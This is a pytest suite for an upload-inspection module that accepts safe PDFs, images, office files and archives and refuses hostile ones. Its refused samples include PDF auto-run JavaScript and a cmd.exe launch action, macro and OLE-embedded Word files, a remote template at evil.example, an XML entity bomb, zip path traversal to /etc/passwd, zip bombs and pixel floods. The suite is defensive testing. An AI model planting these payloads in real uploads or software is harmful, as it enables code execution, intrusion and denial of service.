import resource
from io import BytesIO

import pytest
from PIL import Image

from partnership.documents.inspection import FileRefused, accept_own, accept_upload
from partnership.documents.tests import samples
from partnership.documents.tests.samples import (
    MARKER,
    archive,
    office,
    packed_pdf,
    pdf,
    picture,
    upload,
)

GOOD = {
    "گزارش.pdf": pdf(),
    "photo.jpg": picture("JPEG"),
    "photo.JPEG": picture("JPEG"),
    "scan.png": picture("PNG"),
    "grey.png": picture("PNG", mode="L"),
    "glass.png": picture("PNG", mode="RGBA"),
    "letter.docx": office("docx"),
    "hours.xlsx": office("xlsx", {"_rels/.rels": "<Relationships/>"}),
    "all.zip": archive(),
}
_TEMPLATE = (
    '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
    ' TargetMode="External"/>'
)
_MACROS = (
    '<Types><x ContentType="application/vnd.ms-word.document.macroEnabled.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_BOMB = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'
BAD = {
    "empty.pdf": b"",
    "page.pdf": b"<html>" + MARKER,
    "page.png": b"<html>" + MARKER,
    "drawing.png": b'<svg xmlns="http://www.w3.org/2000/svg">' + MARKER + b"</svg>",
    "code.jpg": MARKER,
    "page.html": MARKER,
    "drawing.svg": b"<svg/>",
    "program.exe": b"MZ\x90\x00",
    "program.pdf.exe": pdf(),
    "program.pdf": b"MZ\x90\x00" + pdf(),
    "\u202efdp.exe": pdf(),
    "no-extension": pdf(),
    ".pdf": pdf(),
    "photo.png": picture("JPEG"),
    "gif.png": picture("GIF", mode="P"),
    "cut.jpg": picture("JPEG")[:200],
    "cut.png": picture("PNG")[:60],
    "cut.pdf": pdf()[:40],
    "gifar.pdf": pdf(tail=archive({"META-INF/MANIFEST.MF": "x"})),
    "script.pdf": pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "escaped.pdf": pdf(b"/OpenAction<</S /Java#53cript/JS(1)>>"),
    "spaced.pdf": pdf(b"/OpenAction<</S %x\n /JavaScript/JS(1)>>"),
    "indirect.pdf": pdf().replace(b"trailer", b"9 0 obj\n/JavaScript\nendobj\ntrailer"),
    "launch.pdf": pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "hidden.pdf": packed_pdf(b"<</S/JavaScript/JS(1)>>"),
    "locked.pdf": pdf().replace(b"<</Root", b"<</Encrypt 9 0 R/Root"),
    "macro.docx": office("docx", {"word/vbaProject.bin": b"x"}),
    "macro-type.docx": office("docx", types=_MACROS),
    "renamed.docx": office("xlsx"),
    "plain.docx": archive(),
    "ole.docx": office("docx", {"word/embeddings/oleObject1.bin": b"x"}),
    "template.docx": office("docx", {"word/_rels/settings.xml.rels": _TEMPLATE}),
    "laughs.xlsx": archive({"[Content_Types].xml": _BOMB}),
    "program.zip": archive({"setup.exe": b"MZ"}),
    "page.zip": archive({"a/index.html": MARKER}),
    "nested.zip": archive({"inner.zip": archive()}),
    "jar.zip": archive({"META-INF/MANIFEST.MF": "x"}),
    "climbs.zip": archive({"../../etc/passwd": "x"}),
    "absolute.zip": archive({"/etc/passwd": "x"}),
    "windows.zip": archive({"..\\..\\x.txt": "x"}),
    "locked.zip": samples.locked_archive(),
    "broken.zip": b"PK\x03\x04" + b"\x00" * 60,
    "many.zip": archive({f"{number}.txt": "" for number in range(2001)}),
}  # fmt: skip


@pytest.mark.parametrize("name", list(GOOD))
def test_good_files_are_accepted(name):
    accepted = accept_upload(upload(name, GOOD[name], "text/html"))
    assert accepted.name == name
    assert accepted.content_type != "text/html"
    assert len(accepted.sha256) == 64


@pytest.mark.parametrize("name", list(BAD))
def test_bad_files_are_refused_with_a_sentence(name):
    with pytest.raises(FileRefused) as caught:
        accept_upload(upload(name, BAD[name], "application/pdf"))
    assert str(caught.value).endswith((".", "."))


def test_csv_only_where_a_field_asks_for_it():
    with pytest.raises(FileRefused):
        accept_upload(upload("a.csv", b"a,b"))
    assert accept_upload(upload("a.csv", "الف,ب".encode()), types=("csv",)).size == 9
    for data in (b"<html>", b"a\x00b", b"\xff\xfe\x00"):
        with pytest.raises(FileRefused):
            accept_upload(upload("a.csv", data), types=("csv",))


def test_the_size_limit_is_exact(settings):
    settings.UPLOAD_MAX_MB = 1
    body = pdf()
    room = 1024 * 1024 - len(body)
    whole = body.replace(b"trailer", b"%" + b"x" * (room - 2) + b"\ntrailer")
    assert accept_upload(upload("a.pdf", whole)).size == 1024 * 1024
    with pytest.raises(FileRefused):
        accept_upload(upload("a.pdf", whole.replace(b"%x", b"%xx", 1)))


def test_photos_lose_place_device_and_comment_and_stand_upright():
    raw = samples.photo_with_place()
    assert b"SecretPhone" in raw
    clean = accept_upload(upload("photo.jpg", raw)).data
    for secret in (b"SecretPhone", b"secret comment", b"Exif", b"GPS"):
        assert secret not in clean
    with Image.open(BytesIO(clean)) as picture_:
        assert picture_.size == (30, 40)
        assert not picture_.getexif()


def test_what_hangs_behind_a_picture_is_gone():
    for name, kind in (("a.png", "PNG"), ("a.jpg", "JPEG")):
        clean = accept_upload(upload(name, picture(kind) + MARKER + archive())).data
        assert b"script" not in clean
        assert b"PK\x03\x04" not in clean


def test_large_photos_shrink_to_what_paper_needs():
    clean = accept_upload(upload("a.jpg", picture("JPEG", (4000, 3000)))).data
    with Image.open(BytesIO(clean)) as shrunk:
        assert shrunk.size == (2560, 1920)


@pytest.mark.parametrize("side", [5600, 12_000, 30_000])
def test_pixel_floods_are_refused_before_they_unfold(side):
    data = samples.claims_pixels(side)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(FileRefused):
        accept_upload(upload("flood.png", data))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 30_000  # KiB


@pytest.mark.parametrize("name", ["bomb.zip", "bomb.xlsx"])
def test_bombs_are_refused_by_their_table_of_contents(name):
    zeros = b"\x00" * (8 * 1024 * 1024)
    parts = {f"{number}.txt": zeros for number in range(13)}
    bomb = office("xlsx", parts) if name.endswith("xlsx") else archive(parts)
    assert len(bomb) < 1024 * 1024
    with pytest.raises(FileRefused):
        accept_upload(upload(name, bomb))


def test_own_documents_stay_byte_for_byte():
    data = pdf()
    assert accept_own(data, name="نامه.pdf").data is data
    with pytest.raises(ValueError):
        accept_own(b"<html>", name="letter.pdf")
